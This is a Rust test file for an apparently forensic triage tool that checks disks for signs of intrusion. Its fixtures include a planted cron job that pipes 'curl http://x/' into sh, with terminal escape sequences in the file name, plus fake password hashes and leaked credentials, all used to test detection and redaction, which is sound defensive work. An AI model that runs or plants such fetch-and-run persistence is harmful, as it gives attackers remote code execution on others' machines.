//! `triage` on disks that are hostile, huge, foreign or late.
#![allow(clippy::unwrap_used, reason = "a test that cannot go on has failed")]

use std::fs::{self, File};
use std::io::{Seek as _, SeekFrom, Write as _};
use std::os::unix::fs::{PermissionsExt as _, symlink};
use std::path::Path;

use kannuki_audit::collect::traces::{self, Search};
use kannuki_audit::texts::{Lang, Texts};
use kannuki_audit::traces::{Door, Traces};
use kannuki_audit::triage::{self, Grade, Outcome, Triage, show};
use kannuki_audit::vulnerabilities::Table;

/// 2018-02-27 12:00:00 UTC.
const NOW: i64 = 1_519_732_800;

fn write(root: &Path, path: &str, text: impl AsRef<[u8]>) {
    let path = root.join(path);
    fs::create_dir_all(path.parent().unwrap()).unwrap();
    fs::write(path, text).unwrap();
}

fn search(root: &Path) -> Search {
    Search { root: root.to_owned(), by: "test".to_owned(), incident: None, at: Some(NOW) }
}

fn look(root: &Path) -> (Traces, Triage) {
    let traces = traces::collect(&search(root), &mut |_| ()).unwrap();
    let texts = Texts::of(Lang::En);
    let triage = triage::judge(&traces, None, None, &Table::embedded(), &texts);
    (traces, triage)
}

fn check<'t>(triage: &'t Triage, id: &str) -> &'t triage::Checked {
    triage.checks.iter().find(|check| check.id == id).unwrap()
}

fn with_root_account(root: &Path) {
    write(root, "etc/passwd", "root:x:0:0:root:/root:/bin/bash\n");
    write(root, "etc/shadow", "root:$6$salt$verysecrethash:17000:0:99999:7:::\n");
}

#[test]
fn an_empty_disk_tells_nothing_and_nothing_is_claimed() {
    let folder = tempfile::tempdir().unwrap();
    let (_, triage) = look(folder.path());
    assert_eq!(triage.outcome, Outcome::CannotTell);
    assert_eq!(check(&triage, "TR-03").grade, Grade::NotRun);
    assert_eq!(check(&triage, "TR-27").grade, Grade::NotRun);
}

#[test]
fn links_out_of_a_hostile_root_and_fifos_are_not_followed() {
    let outside = tempfile::tempdir().unwrap();
    fs::write(outside.path().join("secret"), "ssh-ed25519 AAAA outside\n").unwrap();
    let folder = tempfile::tempdir().unwrap();
    let root = folder.path();
    with_root_account(root);
    fs::create_dir_all(root.join("root/.ssh")).unwrap();
    symlink(outside.path().join("secret"), root.join("root/.ssh/authorized_keys")).unwrap();
    fs::create_dir_all(root.join("etc/cron.d")).unwrap();
    symlink("../../../../../../../../etc/passwd", root.join("etc/cron.d/out")).unwrap();
    rustix::fs::mknodat(
        rustix::fs::CWD,
        root.join("etc/cron.d/pipe"),
        rustix::fs::FileType::Fifo,
        0o644.into(),
        0,
    )
    .unwrap();
    symlink("/dev/zero", root.join("etc/ld.so.preload")).unwrap();
    let (traces, triage) = look(root);
    assert!(traces.keys.is_empty(), "{:?}", traces.keys);
    let host = fs::read_to_string("/etc/passwd").unwrap();
    assert!(traces.texts.iter().all(|file| file.text != host));
    // The pipe is a gap, and the check says so.
    assert!(check(&triage, "TR-23").unseen.iter().any(|what| what.contains("/etc/cron.d/pipe")));
}

#[test]
fn names_and_texts_that_steer_a_terminal_are_shown_harmless() {
    let folder = tempfile::tempdir().unwrap();
    let root = folder.path();
    with_root_account(root);
    write(root, "etc/cron.d/a\u{1b}[31mb", "* * * * * root curl http://x/\u{1b}]0;t\u{7} | sh\n");
    let (_, triage) = look(root);
    assert_eq!(triage.outcome, Outcome::Intrusion);
    for lang in Lang::ALL {
        let texts = Texts::of(lang);
        for page in [show::text(&triage, &texts, 80), show::markdown(&triage, &texts)] {
            let steers = |c: char| c.is_control() && c != '\n';
            assert!(!page.chars().any(steers), "{page:?}");
        }
    }
}

#[test]
fn a_log_of_a_gigabyte_is_read_in_bounded_memory() {
    let folder = tempfile::tempdir().unwrap();
    let root = folder.path();
    with_root_account(root);
    let line =
        "Feb 27 03:11:04 web1 sshd[7]: Accepted password for root from 192.0.2.7 port 4 ssh2\n";
    write(root, "var/log/auth.log", line);
    let mut log = File::options().write(true).open(root.join("var/log/auth.log")).unwrap();
    // A hole: no disk is filled, and for a reader it is a line of a gigabyte.
    log.seek(SeekFrom::Start(1 << 30)).unwrap();
    log.write_all(b"\n").unwrap();
    log.write_all(line.replace("192.0.2.7", "192.0.2.8").as_bytes()).unwrap();
    let (traces, _) = look(root);
    let from: Vec<&str> =
        traces.logins.known().unwrap().iter().map(|login| login.from.as_str()).collect();
    assert_eq!(from, ["192.0.2.7", "192.0.2.8"]);
    let kept = serde_json::to_vec(&traces).unwrap().len();
    assert!(kept < 1 << 20, "{kept} bytes of traces");
}

#[test]
fn a_guessed_password_is_strong_and_other_languages_lose_only_their_time() {
    let folder = tempfile::tempdir().unwrap();
    let root = folder.path();
    with_root_account(root);
    let mut log = String::new();
    for second in 10..40 {
        log += &format!(
            "Feb 27 03:11:{second} w sshd[7]: Failed password for root from 192.0.2.7 port 4\n"
        );
    }
    log += "Feb 27 03:12:00 w sshd[7]: Accepted password for root from 192.0.2.7 port 4 ssh2\n";
    log +=
        "2\u{6708} 27 04:00:00 w sshd[8]: Accepted publickey for ops from 192.0.2.9 port 5 ssh2\n";
    write(root, "var/log/auth.log", [log.as_bytes(), b"\xff\xfe sshd \xff\n"].concat());
    let (traces, triage) = look(root);
    let untimed = traces.logins.list().iter().find(|login| login.door == Door::Key).unwrap();
    assert_eq!((untimed.at, untimed.user.as_str()), (None, "ops"));
    let logins = check(&triage, "TR-15");
    assert!(logins.signs.iter().any(|sign| sign.text == "sign.guessed"), "{logins:?}");
    assert!(logins.unseen.iter().any(|what| what.contains("time of 1 log-ins")), "{logins:?}");
    assert_eq!(triage.outcome, Outcome::Intrusion);
}

#[test]
fn a_lying_clock_is_noticed() {
    let folder = tempfile::tempdir().unwrap();
    with_root_account(folder.path());
    // Written by the test just now: years after the time that the disk's host believes it is.
    write(folder.path(), "var/log/auth.log", "");
    let (_, triage) = look(folder.path());
    let clock = check(&triage, "TR-01");
    assert!(clock.signs.iter().any(|sign| sign.text == "sign.clock"), "{clock:?}");
    assert_ne!(triage.outcome, Outcome::Reflector);
}

#[test]
fn unreadable_files_make_a_check_blind_not_clean() {
    if rustix::process::geteuid().is_root() {
        // Nothing is unreadable to root: what stands in the place of a file is no file instead.
        let folder = tempfile::tempdir().unwrap();
        fs::create_dir_all(folder.path().join("etc/passwd")).unwrap();
        let (_, triage) = look(folder.path());
        assert_eq!(check(&triage, "TR-19").grade, Grade::NotRun);
        return;
    }
    let folder = tempfile::tempdir().unwrap();
    with_root_account(folder.path());
    let passwd = folder.path().join("etc/passwd");
    fs::set_permissions(&passwd, fs::Permissions::from_mode(0o000)).unwrap();
    let (_, triage) = look(folder.path());
    assert_eq!(check(&triage, "TR-19").grade, Grade::NotRun);
}

#[test]
fn a_bundle_has_no_secret_and_no_name_of_the_host() {
    let folder = tempfile::tempdir().unwrap();
    let root = folder.path();
    with_root_account(root);
    write(root, "root/.bash_history", "mysql -phunter2\n");
    write(root, "etc/cron.d/../cron.d/x y", "* * * * * root true\n");
    fs::create_dir_all(root.join("var/log")).unwrap();
    symlink("/etc/shadow", root.join("var/log/auth.log")).unwrap();
    let (traces, triage) = look(root);
    let mut tar = Vec::new();
    let json = show::json(&triage).unwrap();
    let bundle = traces::bundle(&search(root), &traces, &json, &mut tar).unwrap();
    assert!(bundle.members > 5 && tar.len().is_multiple_of(512), "{bundle:?}");
    for secret in ["verysecrethash", "hunter2"] {
        let found = tar.windows(secret.len()).any(|window| window == secret.as_bytes());
        assert!(!found, "{secret} is in the bundle");
    }
}
